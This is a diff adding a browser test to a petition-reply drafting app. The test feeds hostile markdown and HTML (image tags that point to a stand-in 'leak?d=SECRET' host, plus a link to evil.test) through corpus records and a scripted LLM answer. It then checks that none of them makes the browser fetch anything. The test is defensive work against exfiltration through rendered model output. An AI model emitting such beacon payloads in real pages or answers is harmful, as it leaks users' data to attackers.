@@ -6,6 +6,7 @@ Set UPDATE_SCREENSHOTS=1 to refresh docs/draft-page.png from this run.
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import signal
 import socket
@@ -21,6 +22,7 @@ from typing import Any
 import pytest
 
 from tests.conftest import ROOT, require
+from tests.fake_openai import FakeOpenAI
 
 pytestmark = pytest.mark.browser
 
@@ -82,14 +84,24 @@ def _wait_healthy(url: str, proc: subprocess.Popen[bytes], log: Path, timeout: f
 
 
 @pytest.fixture(scope="module")
-def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """The app on a free loopback port, over a fresh store (so it indexes the seeds itself)."""
+def llm() -> Iterator[FakeOpenAI]:
+    """A scripted OpenAI-compatible endpoint on loopback, for the app's streaming backend."""
+    fake = FakeOpenAI().start()
+    yield fake
+    fake.stop()
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory, llm: FakeOpenAI) -> Iterator[str]:
+    """The app on a free loopback port, over a fresh store (so it indexes the seeds itself), with
+    the offline backend by default and the scripted endpoint as the OpenAI-compatible one."""
     require(Path(CHROMIUM).exists(), f"{CHROMIUM} is missing: apt-get install chromium")
     require(STREAMLIT.exists(), f"{STREAMLIT} is missing: pip install -e .[dev]")
     work = tmp_path_factory.mktemp("browser-server")
     port = _free_port()
     env = {k: v for k, v in os.environ.items() if not k.startswith(("YMATEB_", "OPENAI_"))}
     env["YMATEB_STORE"] = str(work / "store")
+    env["YMATEB_LLM_BASE_URL"], env["YMATEB_LLM_API_KEY"] = llm.url, "sk-test"
     log = work / "streamlit.log"
     cmd = [
         str(STREAMLIT),
@@ -261,3 +273,77 @@ def test_the_evaluation_page_runs_the_suite(server: str, page: Any, tmp_path: Pa
     page.locator('[data-testid="stImage"] img').nth(1).wait_for()  # the report's two charts
     _wait_idle(page)
     _shot(page, tmp_path, "evaluation")
+
+
+IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
+TAG = '<img src="http://127.0.0.1:9/leak?d=TAG">'
+LINK = "[click](http://evil.test/)"
+HOSTILE = {
+    "id": "quokka-hostile",
+    "kind": "petition_response",
+    "date": "2023-06-01",
+    "ref": f"P-06-1402 {IMAGE}",
+    "title": f"Quokka rooms {TAG}",
+    "asked_of": f"Deputy Minister {LINK}",
+    "body": f"The Welsh Government funds quokka therapy rooms in every children's home {IMAGE} {TAG} {LINK}. "
+    "Quokka therapy rooms in children's homes are inspected by Care Inspectorate Wales every year.",
+}
+
+
+def test_untrusted_markup_never_makes_the_browser_fetch_anything(
+    server: str, page: Any, llm: FakeOpenAI, tmp_path: Path
+) -> None:
+    """Hostile precedent metadata and a hostile streamed answer: the page never asks the attacker's
+    hosts for anything (every request not to the app is recorded and refused, so none leaves)."""
+    import json
+
+    from playwright.sync_api import expect
+
+    elsewhere: list[str] = []
+
+    def only_the_app(route: Any) -> None:
+        if route.request.url.startswith(server):
+            route.continue_()
+        else:
+            elsewhere.append(route.request.url)
+            route.abort()
+
+    page.route("**/*", only_the_app)
+    records = tmp_path / "hostile.jsonl"
+    records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
+    _open(page, server, "corpus", "Corpus")
+    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(records))
+    page.get_by_text("hostile.jsonl").first.wait_for()
+    page.get_by_role("button", name="Add to the index").click()
+    page.get_by_text("Documents in the index").wait_for()
+    _wait_idle(page)
+
+    page.get_by_role("link", name="Precedents").click()
+    page.get_by_role("heading", name="Precedents").wait_for()
+    page.get_by_role("textbox", name="Search").fill("quokka therapy rooms in children's homes")
+    page.get_by_role("button", name="Search").click()
+    page.get_by_text("P-06-1402 ![x](http\u2060://127.0.0.1:9/leak?d=SECRET)").first.wait_for()  # shown as text
+    page.get_by_role("tab", name="Timeline").click()
+    page.get_by_text("Latest line").wait_for()
+    _wait_idle(page)
+
+    llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
+    page.get_by_role("link", name="Draft").click()
+    page.get_by_role("heading", name="Draft a reply").wait_for()
+    box = page.get_by_label("…or paste its text")
+    box.fill("Petition P-06-1500: Fund quokka therapy rooms in every children's home")
+    box.press("Control+Enter")
+    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1500", timeout=30_000)
+    page.get_by_role("radiogroup", name="Backend").get_by_text("OpenAI-compatible").click()
+    page.get_by_role("button", name="Draft reply").click()
+    page.get_by_text("Drafted with").wait_for()
+    page.get_by_role("radio", name=re.compile(r"^\[1\] P-06-1402 !\[x\]")).click()  # the label is text
+    page.locator("mark.ym-cited").first.wait_for()
+    _wait_idle(page)
+    _shot(page, tmp_path, "hostile")
+
+    assert llm.requests, "the draft was streamed from the scripted endpoint"
+    # (Streamlit asks fonts.gstatic.com for the app's own :material/...: icons; refused here.)
+    assert [u for u in elsewhere if "127.0.0.1:9" in u or "evil.test" in u] == []
+    found = page.locator("img[src*='leak'], a[href*='evil'], a[href*='leak']")
+    assert found.count() == 0, [found.nth(i).evaluate("e => e.parentElement.outerHTML") for i in range(found.count())]
